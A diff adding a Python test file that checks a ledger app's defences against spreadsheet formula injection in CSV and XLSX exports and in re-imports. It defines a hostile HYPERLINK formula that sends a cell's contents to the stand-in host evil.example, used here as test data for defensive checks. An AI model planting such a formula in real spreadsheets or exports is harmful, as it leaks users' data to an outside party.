@@ -1,0 +1,104 @@
+"""Issue 14: the ledger importer and the files the app writes, against an attacker and a careless user."""
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+
+import openpyxl
+import pandas as pd
+import pytest
+
+import ledger_fixtures as F
+from ipmd import allocation, db as ipmd_db, queries
+from ipmd.cells import safe_frame, safe_text, unquote
+from ipmd.ledger.export import export_ledger
+from ipmd.ledger.store import import_ledger
+
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A2, "Details")'
+FORMULAS = [HOSTILE_TITLE, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture
+def fixture_db(tmp_path):
+    (tmp_path / "data").mkdir()
+    return F.make_fixture_db(tmp_path / "data" / "ipmd.duckdb")
+
+
+# ------------------------------------------------------------------------ item 4: formulas in exports
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_safe_text_quotes_every_formula_start_and_unquote_undoes_it(text):
+    assert safe_text(text) == "'" + text
+    assert unquote(safe_text(text)) == text
+    assert safe_text("Remittances = development") == "Remittances = development"
+    assert safe_text(-5.0) == -5.0 and unquote("'quoted on purpose") == "'quoted on purpose"
+
+
+def test_csv_download_bytes_hold_no_live_formula():
+    from components.downloads import csv_bytes
+    formulas = FORMULAS[:5]
+    frame = pd.DataFrame({"title": formulas, "amount": [-1.5, 2, 3, 4, 5]})
+    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
+    assert [r[0] for r in rows[1:]] == ["'" + f for f in formulas]
+    assert rows[1][1] == "-1.5"                                   # a negative number stays a number
+
+
+def _decision_sheet_with_title(title: str) -> allocation.DecisionSheet:
+    con = ipmd_db.connect()
+    book = queries.ledger(con)
+    pipe = allocation.pipeline_from(book, queries.countries(con))
+    pid = pipe["project_id"].iloc[0]
+    projects = book["projects"].copy()
+    projects.loc[projects["project_id"] == pid, "title"] = title
+    book = {**book, "projects": projects}
+    selection = ((pid, None),)
+    result = allocation.effects_from(book, selection, ())
+    return allocation.decision_sheet_from(book, queries.countries(con), result, allocation.envelope_from(book),
+                                          queries.meta(con), "2026-01-01T00:00:00+00:00", 2024)
+
+
+def test_decision_sheet_xlsx_and_csv_keep_a_hostile_title_as_text():
+    sheet = _decision_sheet_with_title(HOSTILE_TITLE)
+    wb = openpyxl.load_workbook(io.BytesIO(allocation.sheet_xlsx(sheet)))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell of the workbook is a formula"
+    assert any(c.value in (HOSTILE_TITLE, "'" + HOSTILE_TITLE) for c in cells)
+    text = allocation.sheet_csv(sheet).decode("utf-8-sig")
+    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
+    assert "'" + HOSTILE_TITLE in fields
+    assert not [f for f in fields if f.startswith(("=", "+", "@"))]
+
+
+def test_ledger_csv_export_quotes_formulas_and_reimports_them_unchanged(fixture_db):
+    t = F.copy_tables(F.valid_ledger())
+    t["projects"].iloc[0, t["projects"].columns.get_loc("title")] = HOSTILE_TITLE
+    t["donors"].iloc[0, t["donors"].columns.get_loc("name")] = "@donor"
+    assert import_ledger(F.xlsx_bytes(t), "ledger.xlsx", fixture_db).ok
+    exported = export_ledger(fixture_db, "csv")
+    with zipfile.ZipFile(io.BytesIO(exported)) as zf:
+        projects = zf.read("projects.csv").decode("utf-8")
+    titles = [r["title"] for r in csv.DictReader(io.StringIO(projects))]
+    assert "'" + HOSTILE_TITLE in titles and HOSTILE_TITLE not in titles
+    again = import_ledger(exported, "ledger.zip", fixture_db)
+    assert again.ok, again.report_lines()
+    frames = queries.ledger(__import__("duckdb").connect(str(fixture_db), read_only=True))
+    assert HOSTILE_TITLE in set(frames["projects"]["title"])
+    assert "@donor" in set(frames["donors"]["name"])
+
+
+def test_ledger_xlsx_export_stores_formula_text_as_text(fixture_db):
+    t = F.copy_tables(F.valid_ledger())
+    t["projects"].iloc[0, t["projects"].columns.get_loc("title")] = HOSTILE_TITLE
+    assert import_ledger(F.xlsx_bytes(t), "ledger.xlsx", fixture_db).ok
+    wb = openpyxl.load_workbook(io.BytesIO(export_ledger(fixture_db, "xlsx")))
+    cells = [c for row in wb["projects"].iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert HOSTILE_TITLE in [c.value for c in cells]
+
+
+def test_safe_frame_leaves_numbers_and_dates_alone():
+    frame = pd.DataFrame({"a": ["=1", "x"], "n": [-1, 2], "d": pd.to_datetime(["2020-01-01", "2021-01-01"])})
+    out = safe_frame(frame)
+    assert out["a"].tolist() == ["'=1", "x"] and out["n"].tolist() == [-1, 2]
+    assert out["d"].equals(frame["d"])
